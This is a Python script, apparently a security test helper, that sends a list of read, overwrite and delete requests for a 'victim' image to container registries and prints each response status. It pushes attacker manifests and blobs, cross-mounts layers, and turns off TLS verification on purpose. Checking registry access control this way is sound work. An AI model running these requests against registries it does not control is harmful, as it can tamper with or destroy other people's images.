"""Requests by which an attacker reads, overwrites or deletes images. It needs the standard library only, so that a pod
can run it: `python3 -c SOURCE MANIFEST LAYER ADDRESS…` prints one outcome for each request."""

from __future__ import annotations

import hashlib
import http.client
import json
import ssl
import sys
from typing import NamedTuple

VICTIM = "library/victim"
PAYLOAD = b"a layer of the attacker"
_PAYLOAD_DIGEST = f"sha256:{hashlib.sha256(PAYLOAD).hexdigest()}"
_MANIFEST_TYPE = "application/vnd.docker.distribution.manifest.v2+json"
_ACCEPTED = f"application/vnd.oci.image.manifest.v1+json, {_MANIFEST_TYPE}"
_UPLOAD = f"/v2/{VICTIM}/blobs/uploads/8d7c9a1e-58f0-4a55-9f6c-0f9f0d6e7d11"
CLOSED = "closed"
"""The server closed the connection, and sent nothing but its part of the handshake."""


class Image(NamedTuple):
    """Digests of the victim's image."""

    manifest: str
    layer: str


class Attempt(NamedTuple):
    method: str
    path: str
    body: bytes = b""
    media_type: str = "application/octet-stream"


def reads(image: Image) -> list[Attempt]:
    return [
        Attempt("GET", "/v2/"),
        Attempt("GET", "/v2/_catalog"),
        Attempt("GET", f"/v2/{VICTIM}/tags/list"),
        Attempt("GET", f"/v2/{VICTIM}/manifests/1"),
        Attempt("HEAD", f"/v2/{VICTIM}/manifests/{image.manifest}"),
        Attempt("GET", f"/v2/{VICTIM}/blobs/{image.layer}"),
    ]


def writes(image: Image) -> list[Attempt]:
    manifest = json.dumps({"schemaVersion": 2, "mediaType": _MANIFEST_TYPE, "config": {}, "layers": []}).encode()
    return [
        Attempt("PUT", f"/v2/{VICTIM}/manifests/1", manifest, _MANIFEST_TYPE),
        Attempt("PUT", f"/v2/{VICTIM}/manifests/{image.manifest}", manifest, _MANIFEST_TYPE),
        Attempt("POST", f"/v2/{VICTIM}/blobs/uploads/"),
        Attempt("POST", f"/v2/{VICTIM}/blobs/uploads/?digest={_PAYLOAD_DIGEST}", PAYLOAD),
        Attempt("POST", f"/v2/library/mine/blobs/uploads/?mount={image.layer}&from={VICTIM}"),
        Attempt("PATCH", _UPLOAD, PAYLOAD),
        Attempt("PUT", f"{_UPLOAD}?digest={_PAYLOAD_DIGEST}", PAYLOAD),
        Attempt("DELETE", _UPLOAD),
        Attempt("DELETE", f"/v2/{VICTIM}/manifests/{image.manifest}"),
        Attempt("DELETE", f"/v2/{VICTIM}/blobs/{image.layer}"),
    ]


def send(address: str, attempt: Attempt, token: str = "", certificate: tuple[str, str] | None = None) -> str:
    """Status of the response, `closed`, or `unreachable`."""
    # Does not load the system's authorities: an attacker need not verify the server.
    tls = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    tls.check_hostname = False
    tls.verify_mode = ssl.CERT_NONE
    if certificate:
        tls.load_cert_chain(*certificate)
    headers = {"Content-Type": attempt.media_type, "Accept": _ACCEPTED}
    if token:
        headers["Authorization"] = f"Bearer {token}"
    connection = http.client.HTTPSConnection(address, timeout=60, context=tls)
    try:
        connection.request(attempt.method, attempt.path, attempt.body or None, headers)
        return str(connection.getresponse().status)
    except (ConnectionRefusedError, TimeoutError):
        return "unreachable"
    except (OSError, http.client.HTTPException):
        return CLOSED
    finally:
        connection.close()


if __name__ == "__main__":
    manifest, layer, *addresses = sys.argv[1:]
    victim = Image(manifest, layer)
    for address in addresses:
        for attempt in (*reads(victim), *writes(victim)):
            print(address, attempt.method, attempt.path, send(address, attempt))
